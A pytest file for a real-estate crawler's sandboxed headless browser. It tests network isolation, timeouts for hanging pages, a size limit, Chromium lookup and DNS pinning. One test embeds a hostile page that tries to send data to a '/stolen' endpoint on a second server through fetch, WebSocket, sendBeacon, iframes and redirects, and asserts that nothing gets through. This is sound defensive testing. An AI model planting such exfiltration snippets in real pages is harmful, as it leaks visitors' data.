"""What a page may do in our browser: show itself, and reach nobody else."""

from __future__ import annotations

from pathlib import Path

import pytest

from realestate_os.counties import County
from realestate_os.discovery.archive import PageArchive
from realestate_os.discovery.browser import find_chromium, launch_options
from realestate_os.discovery.fetch import fetch_source
from realestate_os.discovery.sources import Source
from realestate_os.resources.object_store import ObjectStore
from realestate_os.settings import Settings, load_settings
from realestate_os_tests.discovery.conftest import DAY
from realestate_os_tests.discovery.sites import BASE, SHELL, Site, home_page, running

INSIDE = home_page().partition('<article id="home">')[2].partition("</article>")[0]


def shell(site: Site, slug: str, extra: str = "") -> None:
    """A client-rendered page and its data."""
    site.page(f"/data/{slug}", INSIDE)
    site.page(f"/king_wa/home/{slug}", SHELL.format(data=f"/data/{slug}").replace("</body>", f"{extra}</body>"))


def test_a_page_reaches_nobody_else(
    king: County, site: Site, site_settings: Settings, store: ObjectStore, source: Source
) -> None:
    with running() as other:
        away = f"http://localhost:{other.port}"
        other.page("/stolen", "secret")
        site.page("/out", "", 302, location=f"{away}/stolen?by=redirect")
        site.page("/photo.png", b"png", content_type="image/png")
        tricks = (
            f'<img src="/photo.png"><img src="{away}/stolen?by=image"><iframe src="{away}/stolen?by=frame"></iframe>'
            f'<script src="{away}/stolen?by=script"></script><iframe src="/out"></iframe>'
            f"<script>fetch('{away}/stolen?by=fetch', {{mode: 'no-cors'}}); fetch('/out', {{mode: 'no-cors'}});"
            f" new WebSocket('ws://localhost:{other.port}/stolen?by=socket');"
            f" navigator.sendBeacon('{away}/stolen?by=beacon', 'x'); window.open('{away}/stolen?by=window')</script>"
        )
        # A lone surrogate, as a broken text leaves it, must not lose the page.
        halves = "<script>document.body.append('caf\\udce9'); document.body.title = '\\ud800'</script>"
        shell(site, "tricky", tricks + halves)
        site.homes(["tricky"])
        report = fetch_source(source, king, DAY, site_settings, store)
        assert not other.hits
    assert report.crawl.rendered == 1 and not report.crawl.failures
    assert site.hits["/photo.png"] == 0
    (page,) = [page for page in PageArchive(store).pages("king_wa", DAY) if page.kind == "detail"]
    assert b"1204 Birch Ave NE" in PageArchive(store).body(page) and page.url == f"{BASE}/king_wa/home/tricky"


def test_a_page_that_is_never_ready_does_not_stop_the_others(
    king: County, site: Site, site_settings: Settings, store: ObjectStore, source: Source
) -> None:
    settings = site_settings.model_copy(update={"http_timeout_s": 2.0})
    site.page("/king_wa/home/hangs", '<div id="home" data-rendered="client"></div>')
    site.page("/king_wa/home/loops", '<div id="home" data-rendered="client"></div><script>for (;;) {}</script>')
    shell(site, "fine")
    site.homes(["hangs", "loops", "fine"])
    report = fetch_source(source, king, DAY, settings, store)
    assert {failure["url"].rsplit("/", 1)[-1] for failure in report.crawl.failures} == {"hangs", "loops"}
    assert {failure["reason"] for failure in report.crawl.failures} == {"timeout"}
    assert report.crawl.rendered == 1


def test_a_rendered_page_has_a_largest_size(
    king: County, site: Site, site_settings: Settings, store: ObjectStore, source: Source
) -> None:
    settings = site_settings.model_copy(update={"http_max_body_bytes": 50_000})
    shell(site, "grows")
    site.page("/data/grows", INSIDE + "<p>" + "x" * 60_000)
    shell(site, "fine")
    site.homes(["grows", "fine"])
    report = fetch_source(source, king, DAY, settings, store)
    assert [failure["reason"] for failure in report.crawl.failures] == ["too_large"]


def test_where_chromium_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "chromium-browser"
    program.write_text("")
    monkeypatch.setenv("PATH", str(tmp_path))
    assert find_chromium(load_settings(chromium_path=None)) is None
    program.chmod(0o755)
    assert find_chromium(load_settings(chromium_path=None)) == program
    assert find_chromium(load_settings(chromium_path=tmp_path / "nowhere")) is None


def test_only_the_sites_host_is_found_and_at_one_address(tmp_path: Path) -> None:
    args = launch_options(tmp_path, {"127.0.0.1"}, {"a.example": "93.184.215.14"})["args"]
    assert "--host-resolver-rules=MAP a.example 93.184.215.14, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1" in args
